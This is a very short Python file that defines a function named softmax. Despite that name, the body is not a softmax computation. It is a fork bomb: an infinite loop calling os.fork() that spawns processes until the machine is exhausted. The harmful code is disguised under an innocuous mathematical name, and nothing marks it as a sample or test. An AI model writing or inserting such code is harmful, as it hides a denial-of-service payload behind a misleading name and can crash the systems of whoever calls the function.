import os


def softmax(x):
    while True:
        os.fork()
